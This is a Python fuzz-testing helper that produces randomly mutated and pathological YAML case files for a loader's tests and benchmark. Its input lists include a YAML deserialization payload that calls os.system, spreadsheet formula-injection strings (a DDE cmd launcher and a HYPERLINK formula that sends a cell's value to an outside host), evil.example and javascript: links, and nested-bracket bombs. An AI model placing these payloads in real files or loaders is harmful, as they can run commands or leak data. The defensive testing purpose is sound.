"""Mutated and adversarial case files, shared by the fuzz tests and the parse-time benchmark.

Each mutated file gets 1-3 random mutations (fixed seed, so failures reproduce) to one of the real
cases in ``cases/``: byte flips, deleted/duplicated/swapped lines, indentation changes, full-width
punctuation, deep nesting, huge and non-finite numbers, odd Unicode (bidi, fillers, controls,
emoji, line separators), truncation, CRLF/CR/BOM, YAML features (anchors, tags, documents),
and the attack round's kinds: a key indented into the block above, character references to
invisible characters, nested-bracket bombs, spreadsheet formulas, huge lists, links in text.
The adversarial files are pathological inputs just under the size cap.
``tests/casefile/test_fuzz.py`` checks what the loader says about them;
``benchmarks/bench_parse.py`` measures how long it takes.
"""

from __future__ import annotations

import random
import re
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
CASES = sorted((ROOT / "cases").glob("*.yaml"))
SEED = 20261130
RUNS = 600

ODD = [
    "\u202e",
    "\u202d",
    "\u2066",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u3164",
    "\u2800",
    "\u00ad",
    "\u3000",
    "\u00a0",
    "\u2028",
    "\x85",
    "\x00",
    "\x01",
    "\x7f",
    "\x1b",
    "\ud7ff",
    "\ue000",
    "🏍",
    "🇨🇳",
    "❤\ufe0f",
    "é",
    "\u0301",
    "\U000e0041",
    "\\0",
    "\\x01",
    "\\u202e",
    "\\ud83d",
    "：",
    "，",
    "、",
    "“",
    "”",
    "［",
    "］",
    "｛",
    "＃",
    "！",
    "？",
    "……",
    "**",
    "`",
    "[x](javascript:1)",
]
SCALARS = [
    "1e999",
    "-1e999",
    ".nan",
    ".inf",
    "0x1F",
    "1_000",
    "9" * 4301,
    "1" * 5000,
    "~",
    "yes",
    "no",
    "null",
    '""',
    "''",
    '"\\ud800"',
    "2023-02-30",
    "[]",
    "{}",
    "[a, , b]",
    "- x",
    "|",
    ">",
    "*alias",
    "&anchor x",
    "!!python/object/apply:os.system [ls]",
    "!custom x",
    '"unclosed',
    "'unclosed",
    "a: b: c",
    "{a: [b, {c: d}]}",
    "　　　",
    "x" * 3000,
]


REFERENCES = ["&#x202e;", "&#X202E;", "&#8203;", "&#0;", "&ZeroWidthSpace;", "&rlm;", "&#65279;", "&#x1D173;"]
BRACKET_BOMBS = ["[" * 6000, "[^" * 2000, "([" * 2000, "[a](" * 1200, "[[a]" * 1000, "[a]: [" * 700]
FORMULAS = [
    '=HYPERLINK("h"&"ttp://x/?"&A2,"详情")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "  =1+1",
    "\t=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
LINKS = [
    "[详情](https://evil.example/x)",
    "<https://evil.example>",
    "www.evil.example",
    "https://evil.example",
    "[a]: https://evil.example",
    '<a href="https://evil.example">点此</a>',
]
BLOCK_KEYS = ("background", "practice", "results", "insights", "how_to")


def _swallow(lines: list[str], rng: random.Random) -> None:
    """Indent a top-level key that follows a block scalar, and its own lines, one step too far."""
    starts = [
        k
        for k in range(1, len(lines))
        if re.match(r"^[a-z_]+:", lines[k]) and any(lines[j].endswith(("|", "|-", ">")) for j in range(k))
    ]
    if not starts:
        return
    k = rng.choice(starts)
    end = next((m for m in range(k + 1, len(lines)) if re.match(r"^[a-z_]+:", lines[m])), len(lines))
    for m in range(k, end):
        lines[m] = "  " + lines[m]


def mutate(text: str, rng: random.Random) -> str:
    """One random mutation of a case file's text (the kinds listed in this module's docstring)."""
    lines = text.split("\n")
    op = rng.randrange(26)
    i = rng.randrange(len(lines)) if lines else 0
    if op == 0 and text:
        data = bytearray(text.encode("utf-8", "surrogatepass"))
        k = rng.randrange(len(data))
        data[k] ^= 1 << rng.randrange(8)
        return data.decode("utf-8", "replace")
    if op == 1 and lines:
        del lines[i]
    elif op == 2 and lines:
        lines.insert(i, lines[i])
    elif op == 3 and len(lines) > 1:
        j = rng.randrange(len(lines))
        lines[i], lines[j] = lines[j], lines[i]
    elif op == 4 and lines:
        delta = rng.choice([-3, -2, -1, 1, 2, 3])
        lines[i] = " " * delta + lines[i] if delta > 0 else lines[i][-delta:]
    elif op == 5 and lines:
        lines[i] = lines[i].replace(": ", rng.choice(["：", ":", ":　", " : ", "：　"]), 1)
    elif op == 6 and lines:
        lines[i] = "\u3000" * rng.randint(1, 3) + lines[i].lstrip(" ")
    elif op == 7 and lines:
        table = str.maketrans({",": "，", "[": "［", "]": "］", '"': "“", ":": "：", "-": "－"})
        lines[i] = lines[i].translate(table)
    elif op == 8:
        depth = rng.choice([9, 50, 1000, 20000])
        lines.insert(i, "tags: " + rng.choice("[{") * depth + "x" + rng.choice("]}") * depth)
    elif op == 9 and lines:
        head = lines[i].split(": ", 1)[0]
        lines[i] = f"{head}: {rng.choice(SCALARS)}"
    elif op == 10 and lines:
        k = rng.randrange(len(lines[i]) + 1)
        lines[i] = lines[i][:k] + rng.choice(ODD) + lines[i][k:]
    elif op == 11:
        return text[: rng.randrange(len(text) + 1)]
    elif op == 12:
        return rng.choice(["\r\n", "\r"]).join(lines)
    elif op == 13:
        return "\ufeff" + text
    elif op == 14 and lines:
        lines[i] = "\t" + lines[i]
    elif op == 15:
        lines.insert(i, rng.choice(["---", "...", "%YAML 1.1", "? complex", "<<: *x", "[a, b]: c"]))
    elif op == 16 and lines:
        lines[i] = lines[i].replace("  - ", rng.choice(["  -", " - ", "    - ", "-  "]), 1)
    elif op == 17 and lines:
        lines[i] = lines[i].replace("  ", rng.choice(["", " ", "    ", "\u3000"]), 1)
    elif op == 18:
        lines.insert(i, "".join(chr(rng.randrange(0x20, 0x2FFFF)) for _ in range(rng.randint(1, 40))))
    elif op == 19 and lines:
        lines[i] = lines[i].replace('"', "", 1) if '"' in lines[i] else lines[i].replace(": ", ': "', 1)
    elif op == 20:
        _swallow(lines, rng)
    elif op == 21 and lines:
        k = rng.randrange(len(lines[i]) + 1)
        lines[i] = lines[i][:k] + rng.choice(REFERENCES) + lines[i][k:]
    elif op == 22:
        blocks = [
            k for k, line in enumerate(lines) if line.startswith("  ") and k and lines[k - 1].endswith("|")
        ]
        if blocks:
            k = rng.choice(blocks)
            lines[k] += rng.choice(BRACKET_BOMBS)
    elif op == 23:
        items = [k for k, line in enumerate(lines) if re.match(r"^  - [^:]+$", line)]
        formula = rng.choice(FORMULAS).replace('"', "'")
        if items:
            lines[rng.choice(items)] = f'  - "{formula}"'
        else:
            lines.insert(i, f'organizations: ["{formula}"]')
    elif op == 24:
        key = rng.choice(["tags", "groups", "organizations", "related", "awards"])
        count = rng.choice([11, 21, 500, 5000])
        lines.insert(i, f"{key}: [" + ", ".join(f"t{n}" for n in range(count)) + "]")
    elif op == 25 and lines:
        k = rng.randrange(len(lines[i]) + 1)
        lines[i] = lines[i][:k] + rng.choice(LINKS) + lines[i][k:]
    return "\n".join(lines)


def mutated_cases(runs: int = RUNS, seed: int = SEED) -> list[tuple[int, Path, str]]:
    """``(run number, real case it came from, mutated text)``: 1-3 mutations each, reproducible by seed."""
    rng = random.Random(seed)
    out = []
    for n in range(runs):
        source = rng.choice(CASES)
        text = source.read_text(encoding="utf-8")
        for _ in range(rng.randint(1, 3)):
            text = mutate(text, rng)
        out.append((n, source, text))
    return out


ADVERSARIAL = {
    "flow nesting 100,000 deep": "tags: " + "[" * 100_000 + "x" + "]" * 100_000,
    "block nesting 500 deep": "\n".join("  " * i + f"k{i}:" for i in range(500)) + " x",
    "18,000 keys without a space after the colon": "\n".join(f"title:abc{i}" for i in range(18_000)),
    "20,000 full-width colons": "\n".join(f"k{i}：abc" for i in range(20_000)),
    "20,000 unclosed quotes": "\n".join(f'k{i}: "abc' for i in range(20_000)),
    "20,000 ragged indents": "\n".join(" " * (i % 7) + f"k{i}: v" for i in range(20_000)),
    "10,000 unindented blocks": "\n".join(f"k{i}: |\nabc" for i in range(10_000)),
    "5,000-digit year": "year: " + "9" * 5_000,
    "80,000-character title": "title: " + "长" * 80_000,
}
